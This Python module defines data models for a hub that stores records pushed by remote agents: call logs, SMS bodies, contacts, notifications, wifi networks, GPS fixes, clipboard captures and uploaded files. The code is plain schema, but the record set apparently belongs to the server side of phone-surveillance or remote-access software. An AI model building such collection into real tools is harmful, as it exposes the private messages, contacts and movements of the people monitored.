"""Telemetry record models.

One model per record variant agents push. Log records dedupe on their
natural identity fields (see ``_DEDUPE_FIELDS``); GPS fixes and clipboard
entries are plain time series.
"""

from __future__ import annotations

import base64
import binascii
import re
from datetime import datetime
from typing import Annotated, Any, ClassVar

from pydantic import BeforeValidator, ConfigDict, Field, field_validator

from agenthub.models._base import HubBaseModel, TelemetryRecord, utcnow

_WHITESPACE_RE = re.compile(r"\s+")


def _number_as_text(value: Any) -> Any:
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return str(value)
    return value


#: Text field that agents sometimes send as a JSON number (phone numbers).
NumberAsText = Annotated[str, BeforeValidator(_number_as_text)]


class CallRecord(TelemetryRecord):
    """Call-log entry; identity is phone number plus call date."""

    _DEDUPE_FIELDS: ClassVar[tuple[str, ...]] = ("phone_no", "date")

    phone_no: NumberAsText
    date: int | str


class SmsRecord(TelemetryRecord):
    """SMS entry; identity is sender/recipient address plus body."""

    _DEDUPE_FIELDS: ClassVar[tuple[str, ...]] = ("address", "body")

    address: NumberAsText
    body: str


class ContactRecord(TelemetryRecord):
    """Address-book entry; phone numbers are stored without whitespace."""

    _DEDUPE_FIELDS: ClassVar[tuple[str, ...]] = ("phone_no", "name")

    phone_no: NumberAsText
    name: str

    @field_validator("phone_no", mode="after")
    @classmethod
    def _strip_whitespace(cls, value: str) -> str:
        return _WHITESPACE_RE.sub("", value)


class NotificationRecord(TelemetryRecord):
    """Captured notification; identity is the notification key plus content."""

    _DEDUPE_FIELDS: ClassVar[tuple[str, ...]] = ("key", "content")

    key: str
    content: str = ""
    app_name: str | None = None
    post_time: int | str | None = None


class WifiNetwork(TelemetryRecord):
    """A network seen in a wifi scan, matched on ``(SSID, BSSID)``."""

    ssid: str = Field(alias="SSID")
    bssid: str = Field(alias="BSSID")


class GpsFix(HubBaseModel):
    """A location fix.

    Latitude and longitude must be sent, though an explicit ``null`` counts
    as zero; other numeric fields default to zero and ``enabled`` to
    ``False``.
    """

    _NULL_AS_ZERO: ClassVar[frozenset[str]] = frozenset({"latitude", "longitude"})

    time: datetime = Field(default_factory=utcnow)
    enabled: bool = False
    latitude: float
    longitude: float
    altitude: float = 0.0
    accuracy: float = 0.0
    speed: float = 0.0


class ClipboardEntry(HubBaseModel):
    """Clipboard contents captured at ``time``."""

    time: datetime = Field(default_factory=utcnow)
    content: str = ""


class BinaryPayload(HubBaseModel):
    """A file pushed by the agent.

    ``buffer`` accepts raw bytes, base64 text (JSON transports) or a list of
    byte values.
    """

    model_config = ConfigDict(extra="ignore")

    name: str | None = None
    buffer: bytes = b""
    file: bool = False

    @field_validator("buffer", mode="before")
    @classmethod
    def _coerce_buffer(cls, value: Any) -> Any:
        if isinstance(value, (bytes, bytearray, memoryview)):
            return bytes(value)
        if isinstance(value, str):
            try:
                return base64.b64decode(value, validate=True)
            except (binascii.Error, ValueError) as exc:
                raise ValueError("buffer is not valid base64") from exc
        if isinstance(value, list):
            return bytes(value)
        return value


class DownloadEntry(HubBaseModel):
    """Download-log entry pointing at a saved binary payload."""

    time: datetime = Field(default_factory=utcnow)
    type: str
    original_name: str | None = None
    storage_path: str
